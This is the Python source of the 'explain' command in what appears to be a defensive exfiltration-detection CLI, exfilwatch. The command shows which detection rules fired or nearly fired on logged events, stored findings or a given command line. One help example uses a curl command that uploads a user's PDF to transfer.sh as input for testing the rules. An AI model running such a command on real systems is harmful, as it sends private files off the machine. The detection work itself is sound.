"""`exfilwatch explain`: why events fired or nearly fired."""

from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING, Annotated

import typer

from exfilwatch_playbooks.cli import exits, stdout
from exfilwatch_playbooks.cli.options import (
    Database,
    NoFilters,
    RowsOutput,
    Rules,
    Since,
    Until,
    examples,
    readable,
    span,
)

if TYPE_CHECKING:
    from exfilwatch.detection.explain import Explanation, RuleExplanation
    from exfilwatch.detection.rule import RuleSet
    from exfilwatch.events.event import Event
    from exfilwatch.events.report import Report
    from exfilwatch.findings.finding import Finding

PathsOrId = Annotated[
    list[str] | None,
    typer.Argument(metavar="[PATH]...", help="What to read, as in `detect`.", show_default=False),
]
Line = Annotated[
    str | None,
    typer.Option("--line", metavar="TEXT", help="Instead of PATH: a command line, as a record would have it."),
]
Image = Annotated[
    str | None,
    typer.Option("--image", metavar="PATH", help="With --line: the program's file. Default: the line's first word."),
]
Id = Annotated[
    str | None,
    typer.Option("--id", metavar="ID", help="Instead of PATH: a finding that is kept, by the beginning of its id."),
]
All = Annotated[
    bool, typer.Option("--all", help="Every event and every rule that looks at it, not only where a signal matched.")
]
Fired = Annotated[bool, typer.Option("--fired", help="Only events on which a rule fired.")]
Members = Annotated[
    bool, typer.Option("--members", help="Also events on which only a member of a correlation fired (often many).")
]
Limit = Annotated[int | None, typer.Option(min=1, help="End after so many events.")]


def register(app: typer.Typer) -> None:
    """Add the command."""
    shown = examples(
        "exfilwatch explain logs/ --fired",
        "exfilwatch explain logs/ --rules my-rules/ --limit 10",
        "exfilwatch explain --id 3fa9c2d1",
        """exfilwatch explain --line 'curl -F "file=@/home/ann/plan.pdf" https://transfer.sh'""",
        "exfilwatch explain logs/ --all --output jsonl | jq .rules[].score",
    )
    app.command("explain", epilog=shown)(explain)


def explain(
    paths: PathsOrId = None,
    identity: Id = None,
    line: Line = None,
    image: Image = None,
    rules: Rules = None,
    no_filters: NoFilters = False,
    everything: All = False,
    fired: Fired = False,
    members: Members = False,
    limit: Limit = None,
    since: Since = None,
    until: Until = None,
    output: RowsOutput = None,
    database: Database = None,
) -> None:
    """Say of each event which rules fired or nearly did, and why: every signal, matched or not, and where.

    Shows events in which some signal of a rule matched, as they are read.

    Rules that correlate events are explained by their members: see --members.

    With --line: what a command line does, as rules can ask for it, and the rules that fire on it.
    """
    from itertools import islice

    from exfilwatch.detection.evaluate import within
    from exfilwatch.errors import ConfigError
    from exfilwatch.events.decoded import decoded
    from exfilwatch.events.report import Report
    from exfilwatch_playbooks.cli import summary, times
    from exfilwatch_playbooks.cli.boundary import say
    from exfilwatch_playbooks.cli.reading import inputs
    from exfilwatch_playbooks.cli.settings import open_store, rule_set

    if sum(map(bool, (paths, identity, line))) != 1:
        raise ConfigError("give either PATH, or --id, or --line")
    if image and not line:
        raise ConfigError("--image goes with --line")
    loaded, report = rule_set(rules, filters=not no_filters), Report()
    if identity:
        found: Iterable[Explanation] = explained_finding(
            open_store(database, existing=True).get(identity), loaded, report
        )
    elif line:
        found = [explained_line(line, image, loaded, everything=everything, members=members)]
    else:
        start, end = (times.micros(time) for time in span(since, until))
        read = decoded(inputs(paths or [], report, replayable=False), report)
        asked = (event for event in read if within(event.time, start, end))
        found = explanations(asked, loaded, everything=everything, fired=fired, members=members)
    shown = _write(islice(found, limit), for_people=readable(output), whole=bool(line))
    if line:
        _note_of_shells(line)
        return
    summary.problems(report)
    say(f"{summary.counted(shown, 'event')} explained of {summary.events(report)}")
    if report.had_errors:
        raise typer.Exit(exits.UNREADABLE)


def explanations(
    events: "Iterable[Event]",
    rules: "RuleSet",
    *,
    everything: bool = False,
    fired: bool = False,
    members: bool = False,
) -> "Iterator[Explanation]":
    """Of the events that are of interest; each with the rules that are, those that fired first.

    A rule that only serves a correlation makes an event interesting when it fired and `members` are asked for: in
    many correlations any connection fires one.
    """
    from exfilwatch.detection.explain import Explanation
    from exfilwatch.detection.explain import explain as explain_event

    own = {info.id for info in rules.infos}
    for event in events:
        found = explain_event(rules, event)
        kept = [each for each in found.rules if everything or each.near]
        if everything or any(
            (each.fired or not fired) if each.rule.id in own else (each.fired and members) for each in kept
        ):
            yield Explanation(event, sorted(kept, key=_interest, reverse=True))


def _interest(each: "RuleExplanation") -> tuple[bool, bool, float]:
    matched = sum(signal.matched is not None for signal in each.signals)
    return each.fired, each.condition, matched / max(1, len(each.signals))


def explained_line(
    line: str, image: str | None, rules: "RuleSet", *, everything: bool = False, members: bool = False
) -> "Explanation":
    """A command line as the start of a process, with the rules that fire; those of correlations' members when asked."""
    from exfilwatch.detection.explain import Explanation
    from exfilwatch.detection.explain import explain as explain_event

    own = {info.id for info in rules.infos}
    found = explain_event(rules, _started(line, image))
    kept = [each for each in found.rules if everything or (each.fired and (members or each.rule.id in own))]
    return Explanation(found.event, sorted(kept, key=_interest, reverse=True))


def _note_of_shells(line: str) -> None:
    """Who copies a pipe here may think that it is read as one."""
    from exfilwatch.commands.shells.argv import argv
    from exfilwatch_playbooks.cli.boundary import say

    if {"|", "||", "&&", ";", "&"}.intersection(argv(line, "\\" in line)):
        say("note: read as one process, as a record has it: what a shell is to run stands in one, as `sh -c '...'`")


def _started(line: str, image: str | None) -> "Event":
    from exfilwatch.commands.shells.argv import argv
    from exfilwatch.events.event import Event, Origin

    program = image or next(iter(argv(line, "\\" in line)), "")
    windows = "\\" in program or program[1:2] == ":" or program.lower().endswith(".exe")
    return Event(
        shape="line",
        category="process_creation",
        product="windows" if windows else "",
        service="",
        time=None,
        ingest_time=None,
        host=None,
        id="line",
        origin=Origin("--line"),
        fields={"Image": program, "CommandLine": line},
        raw={},
    )


def explained_finding(finding: "Finding", rules: "RuleSet", report: "Report") -> "list[Explanation]":
    """The finding's events, read again where they came from; else as the store has them."""
    from exfilwatch.detection.explain import Explanation
    from exfilwatch.detection.explain import explain as explain_event
    from exfilwatch_playbooks.actions.stored import events_of
    from exfilwatch_playbooks.cli.boundary import say

    events, missing = events_of(finding, report)
    if missing:
        say(f"note: {', '.join(missing)}: the events are no longer there; explained from what was kept of them")
    found: list[Explanation] = []
    for event in events:
        explanation = explain_event(rules, event)
        own = [each for each in explanation.rules if each.rule.id == finding.rule.id]
        near = sorted((each for each in explanation.rules if each.near), key=_interest, reverse=True)
        found.append(Explanation(explanation.event, own or near))
    return found


def _write(found: "Iterable[Explanation]", *, for_people: bool, whole: bool) -> int:
    count = 0
    if for_people:
        from exfilwatch_playbooks.cli.explanation_view import show_explanation

        for each in found:
            count += 1
            show_explanation(each, whole=whole)
        return count
    from exfilwatch_playbooks.cli.jsonl import explanation_line

    for each in found:
        count += 1
        stdout.write_line(explanation_line(each))
    return count
